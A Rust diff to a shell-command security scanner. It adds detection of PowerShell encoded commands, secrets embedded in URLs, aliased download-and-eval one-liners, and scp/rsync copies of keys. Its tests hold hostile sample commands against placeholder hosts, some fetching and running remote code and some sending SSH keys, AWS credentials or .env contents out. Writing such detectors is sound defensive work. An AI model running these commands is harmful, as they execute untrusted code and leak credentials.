@@ -9,6 +9,9 @@
 
 use std::collections::BTreeMap;
 use std::ops::Range;
+use std::sync::OnceLock;
+
+use regex::Regex;
 
 use crate::diagnostic::ScanCode;
 
@@ -67,7 +70,7 @@ fn parse_as(text: &str, base: usize, prose: bool) -> Script {
         for command in script.pipelines.iter_mut().flatten() {
             let known = command.words.iter().position(|w| {
                 let name = w.text.to_ascii_lowercase();
-                known_command(&name)
+                known_command(name.trim_end_matches(".exe"))
             });
             command.words.drain(..known.unwrap_or(command.words.len()));
         }
@@ -404,34 +407,82 @@ pub(super) fn sensitive_path(path: &str) -> bool {
     })
 }
 
-/// Whether `text` expands a variable that holds a secret (`$GITHUB_TOKEN`, `${API_KEY}`).
+/// Whether `text` expands a variable that holds a secret (`$GITHUB_TOKEN`, `${API_KEY}`,
+/// `$env:API_KEY`).
 pub(super) fn secret_variable(text: &str) -> bool {
     let mut rest = text;
     while let Some(i) = rest.find('$') {
         rest = &rest[i + 1..];
-        let name: String = rest
-            .trim_start_matches('{')
-            .chars()
-            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
-            .collect();
-        let upper = name.to_ascii_uppercase();
-        if [
-            "TOKEN",
-            "SECRET",
-            "PASSWORD",
-            "PASSWD",
-            "API_KEY",
-            "APIKEY",
-            "PRIVATE_KEY",
-        ]
-        .iter()
-        .any(|s| upper.contains(s))
-            || upper.starts_with("AWS_SECRET")
-        {
+        let after = rest.trim_start_matches('{');
+        let after = after
+            .get(..4)
+            .filter(|p| p.eq_ignore_ascii_case("env:"))
+            .map_or(after, |_| &after[4..]);
+        if secret_name(after) {
             return true;
         }
     }
     false
+}
+
+/// `url` without the `user:password@` part of its authority.
+fn without_user_info(url: &str) -> std::borrow::Cow<'_, str> {
+    let Some(scheme_end) = url.find("//") else {
+        return url.into();
+    };
+    let authority_start = scheme_end + 2;
+    let authority_end = url[authority_start..]
+        .find(['/', '?', '#'])
+        .map_or(url.len(), |i| authority_start + i);
+    match url[authority_start..authority_end].rfind('@') {
+        Some(at) => format!(
+            "{}{}",
+            &url[..authority_start],
+            &url[authority_start + at + 1..]
+        )
+        .into(),
+        None => url.into(),
+    }
+}
+
+/// Whether the identifier `text` starts with names a secret (`GITHUB_TOKEN`, `api_key`).
+fn secret_name(text: &str) -> bool {
+    let name: String = text
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+        .collect();
+    let upper = name.to_ascii_uppercase();
+    [
+        "TOKEN",
+        "SECRET",
+        "PASSWORD",
+        "PASSWD",
+        "API_KEY",
+        "APIKEY",
+        "PRIVATE_KEY",
+    ]
+    .iter()
+    .any(|s| upper.contains(s))
+        || upper.starts_with("AWS_SECRET")
+}
+
+/// Whether a URL is built from a secret: it expands a secret variable (`$API_KEY`, `%TOKEN%`,
+/// a `{{ secrets.TOKEN }}` template) or substitutes the output of reading key material
+/// (`$(cat ~/.ssh/id_rsa)`). Whoever receives the request receives the secret.
+///
+/// Credentials in the URL's user-info part (`postgres://app:${DB_PASSWORD}@db/app`) are for
+/// the host itself, like an `Authorization` header, and do not count.
+pub(super) fn url_carries_secret(url: &str) -> bool {
+    let url = &*without_user_info(url);
+    let substitutes = url.contains("$(") || url.contains('`');
+    secret_variable(url)
+        || substitutes && sensitive_path(url)
+        || url.split("{{").skip(1).any(|t| {
+            let inner = t.split("}}").next().unwrap_or("").trim();
+            secret_name(inner.rsplit('.').next().unwrap_or(inner))
+                || inner.to_ascii_lowercase().starts_with("secrets.")
+        })
+        || url.split('%').skip(1).step_by(2).any(secret_name)
 }
 
 /// The command's name, without a path, `sudo` and its flags, or `env VAR=…` prefixes; and the
@@ -532,6 +583,91 @@ pub(super) fn flows(script: &Script) -> Vec<Flow> {
     flows
 }
 
+/// A PowerShell command given as `-EncodedCommand` (base64 of UTF-16LE text): where it is,
+/// and its text, if it decodes.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Encoded {
+    /// The whole `powershell … -enc …` command.
+    pub span: Range<usize>,
+    /// The decoded command, or `None` when the argument is not base64 of UTF-16LE text.
+    pub text: Option<String>,
+}
+
+/// The PowerShell `-EncodedCommand` arguments in `script`, decoded one level, so the command
+/// they hide can be judged like a `-c` command.
+pub(super) fn encoded_commands(script: &Script) -> Vec<Encoded> {
+    let mut out = Vec::new();
+    for command in script.pipelines.iter().flatten() {
+        for word in &command.words {
+            for substitution in &word.substitutions {
+                out.extend(encoded_commands(substitution));
+            }
+        }
+        let Some((name, index)) = name_of(command) else {
+            continue;
+        };
+        if !matches!(name.as_str(), "pwsh" | "powershell") {
+            continue;
+        }
+        let args = &command.words[index + 1..];
+        let Some(position) = args.iter().position(|a| encoded_flag(&a.text)) else {
+            continue;
+        };
+        let (Some(first), Some(last)) = (command.words.first(), command.words.last()) else {
+            continue;
+        };
+        out.push(Encoded {
+            span: first.span.start..last.span.end,
+            text: args
+                .get(position + 1)
+                .and_then(|a| decode_utf16le_base64(&a.text)),
+        });
+    }
+    out
+}
+
+/// Whether a PowerShell argument is `-EncodedCommand` or one of the abbreviations PowerShell
+/// accepts for it (`-e`, `-ec`, `-en`, `-enc`, …), with `-` or `/`.
+fn encoded_flag(arg: &str) -> bool {
+    let Some(flag) = arg.strip_prefix(['-', '/']) else {
+        return false;
+    };
+    let flag = flag.to_ascii_lowercase();
+    matches!(flag.as_str(), "e" | "ec")
+        || (flag.len() >= 2 && "encodedcommand".starts_with(flag.as_str()))
+}
+
+/// Decodes standard base64 (padding optional) holding UTF-16LE text.
+fn decode_utf16le_base64(text: &str) -> Option<String> {
+    let mut bytes = Vec::with_capacity(text.len() * 3 / 4);
+    let (mut buffer, mut bits) = (0u32, 0u32);
+    for c in text.trim_end_matches('=').bytes() {
+        let value = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            _ => return None,
+        };
+        buffer = (buffer << 6) | u32::from(value);
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            bytes.push((buffer >> bits) as u8);
+            buffer &= (1 << bits) - 1;
+        }
+    }
+    if bytes.is_empty() || bytes.len() % 2 != 0 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+        .collect();
+    String::from_utf16(&units).ok()
+}
+
 impl Analysis {
     fn script(&mut self, script: &Script) -> Option<Taint> {
         let mut last = None;
@@ -597,6 +733,17 @@ impl Analysis {
             .iter()
             .any(|a| sensitive_path(a.text.trim_start_matches('@')));
         let name = name.as_str();
+        // `deno run https://…`, `bun https://…`: an interpreter given a URL as its script.
+        if INTERPRETERS.contains(&name)
+            && args
+                .iter()
+                .filter(|a| !a.text.starts_with('-') && a.text != "run")
+                .take(1)
+                .any(|a| a.text.starts_with("https://") || a.text.starts_with("http://"))
+        {
+            self.execute(Taint::Downloaded, start, command);
+            return None;
+        }
         if SHELLS.contains(&name) || INTERPRETERS.contains(&name) {
             if let Some(code) = inline_code(name, args) {
                 if let Some(taint) = self.word_taint(code) {
@@ -641,7 +788,8 @@ impl Analysis {
             let uploads =
                 args.iter().zip(&arg_taints).any(|(arg, taint)| {
                     *taint == Some(Taint::Secret) && !is_header_value(args, arg)
-                }) || (names_secret && uploads_file(args));
+                }) || (names_secret && uploads_file(args))
+                    || copies_secret_away(name, args);
             if sends || uploads || (stdin == Some(Taint::Secret) && name == "curl") {
                 self.flag(
                     ScanCode::Exfiltration,
@@ -838,6 +986,19 @@ fn is_header_value(args: &[Word], arg: &Word) -> bool {
         || arg.text.starts_with("--header=")
 }
 
+/// Whether a remote copy (`scp`, `rsync`, `sftp`) has key material or credentials among its
+/// sources, which are every path argument but the last (the destination).
+fn copies_secret_away(name: &str, args: &[Word]) -> bool {
+    if !matches!(name, "scp" | "rsync" | "sftp") {
+        return false;
+    }
+    let paths: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
+    let Some((destination, sources)) = paths.split_last() else {
+        return false;
+    };
+    destination.text.contains(':') && sources.iter().any(|s| sensitive_path(&s.text))
+}
+
 /// Whether a network client's arguments send a named file (`-d @f`, `-F x=@f`, `-T f`,
 /// `--upload-file f`, `nc host < f`).
 fn uploads_file(args: &[Word]) -> bool {
@@ -878,12 +1039,78 @@ pub(super) fn interpreter_line(line: &str) -> Option<(ScanCode, &'static str, us
         "fetch",
         "http",
         "new function",
+        "iex",
+        "invoke-expression",
     ]
     .iter()
     .filter_map(|n| lower.find(n))
     .min()
     .unwrap_or(0);
     Some((code, what, start))
+}
+
+/// `code` (lowercased) with modules called by the names they are imported under:
+/// `require('https').get(` reads `https.get(`, and after `const h = require('https')` or
+/// `import urllib.request as u`, `h.get(` and `u.urlopen(` read `https.get(` and
+/// `urllib.request.urlopen(`. A download or an execution is then found however the one-liner
+/// names its module.
+fn resolve_modules(code: &str) -> String {
+    static PATTERNS: OnceLock<[Regex; 3]> = OnceLock::new();
+    let [binding, from_import, inline] = PATTERNS.get_or_init(|| {
+        [
+            Regex::new(
+                r#"(?:(?:const|let|var)\s+(\w+)\s*=\s*(?:require|await\s+import)\s*\(\s*['"](?:node:)?([\w./-]+)['"]\s*\)|import\s+(?:\*\s+as\s+)?(\w+)\s+from\s+['"](?:node:)?([\w./-]+)['"]|import\s+([\w.]+)\s+as\s+(\w+))"#,
+            )
+            .expect("binding pattern compiles"),
+            Regex::new(r"from\s+([\w.]+)\s+import\s+(\w+)\s+as\s+(\w+)")
+                .expect("import pattern compiles"),
+            Regex::new(r#"(?:require|import)\s*\(\s*['"](?:node:)?([\w./-]+)['"]\s*\)"#)
+                .expect("require pattern compiles"),
+        ]
+    });
+    let lower = code.to_ascii_lowercase();
+    if !lower.contains("require") && !lower.contains("import") {
+        return lower;
+    }
+    // (alias as written before a member or a call, what it stands for)
+    let mut aliases: Vec<(String, String)> = Vec::new();
+    for captures in binding.captures_iter(&lower) {
+        let pair = |a: usize, m: usize| Some((captures.get(a)?, captures.get(m)?));
+        if let Some((alias, module)) = pair(1, 2).or_else(|| pair(3, 4)).or_else(|| pair(6, 5)) {
+            aliases.push((
+                format!("{}.", alias.as_str()),
+                format!("{}.", module.as_str()),
+            ));
+        }
+    }
+    for captures in from_import.captures_iter(&lower) {
+        aliases.push((
+            format!("{}(", &captures[3]),
+            format!("{}.{}(", &captures[1], &captures[2]),
+        ));
+    }
+    let mut resolved = inline.replace_all(&lower, "$1").into_owned();
+    for (alias, module) in aliases {
+        resolved = replace_word(&resolved, &alias, &module);
+    }
+    resolved
+}
+
+/// `text` with `from` replaced by `to` wherever `from` starts a word.
+fn replace_word(text: &str, from: &str, to: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(i) = rest.find(from) {
+        let bounded = rest[..i]
+            .chars()
+            .next_back()
+            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '.'));
+        out.push_str(&rest[..i]);
+        out.push_str(if bounded { to } else { from });
+        rest = &rest[i + from.len()..];
+    }
+    out.push_str(rest);
+    out
 }
 
 fn judge_code(code: &str, wrapped: bool) -> Option<(ScanCode, &'static str)> {
@@ -898,6 +1125,13 @@ fn judge_code(code: &str, wrapped: bool) -> Option<(ScanCode, &'static str)> {
         "execsync(",
         "instance_eval(",
         "system(",
+        "vm.runinthiscontext(",
+        "vm.runinnewcontext(",
+        "child_process.exec(",
+        "iex ",
+        "iex(",
+        "invoke-expression",
+        "scriptblock]::create(",
     ];
     const DOWNLOADS: &[&str] = &[
         "urlopen(",
@@ -909,6 +1143,13 @@ fn judge_code(code: &str, wrapped: bool) -> Option<(ScanCode, &'static str)> {
         "uri.open(",
         "httpx.get(",
         "invoke-webrequest",
+        "invoke-restmethod",
+        "iwr ",
+        "irm ",
+        "downloadstring(",
+        "http.request(",
+        "https.request(",
+        "axios.get(",
         "lwp::simple::get(",
     ];
     const DECODES: &[&str] = &[
@@ -932,7 +1173,7 @@ fn judge_code(code: &str, wrapped: bool) -> Option<(ScanCode, &'static str)> {
         "httpx.post(",
         "sendall(",
     ];
-    let lower = code.to_ascii_lowercase();
+    let lower = resolve_modules(code);
     let first = |needles: &[&str]| needles.iter().filter_map(|n| lower.find(n)).min();
     let last = |needles: &[&str]| needles.iter().filter_map(|n| lower.rfind(n)).max();
     let inside = |outer: &[&str], inner: &[&str]| match (first(outer), last(inner)) {
@@ -1060,7 +1301,11 @@ mod tests {
             "sh -c \"$(wget -qO- https://x)\"",
             "curl -o /tmp/i.sh https://x\nbash /tmp/i.sh",
             "wget https://x/r.py -O /tmp/r.py && python3 /tmp/r.py",
+            "deno run -A https://x/bootstrap.ts",
             "python -c \"import urllib.request as u; exec(u.urlopen('https://x').read())\"",
+            "node -e \"require('https').get('https://x/a.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
+            "node -e \"const h=require('node:https');h.get('https://x',r=>r.on('data',c=>eval(c+'')))\"",
+            "python3 -c \"from urllib.request import urlopen as g; exec(g('https://x').read())\"",
         ] {
             assert_eq!(codes(text), [ScanCode::FetchAndExecute], "{text}");
         }
@@ -1076,6 +1321,9 @@ mod tests {
             "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/x",
             "git remote add upstream https://github.com/o/r.git && git push origin HEAD",
             "dig +short example.com",
+            "rsync -av dist/ deploy@web.example.com:/srv/site/",
+            "scp backup@x.example:/keys/id_ed25519.pub ~/.ssh/",
+            "deno run -A scripts/build.ts",
             "base64 -d key.b64 > key.bin",
         ] {
             assert!(codes(text).is_empty(), "{text}");
@@ -1094,6 +1342,8 @@ mod tests {
             "gh issue create --body \"$(cat .env)\"",
             "tar czf - ~/.ssh | nc x 4444",
             "git push --mirror https://x.example/r.git",
+            "scp ~/.ssh/id_ed25519 backup@x.example:/keys/",
+            "rsync -av ~/.aws/credentials x.example:/drop/",
             "git remote add b https://x.example/r.git\ngit push b --all",
         ] {
             assert_eq!(codes(text), [ScanCode::Exfiltration], "{text}");
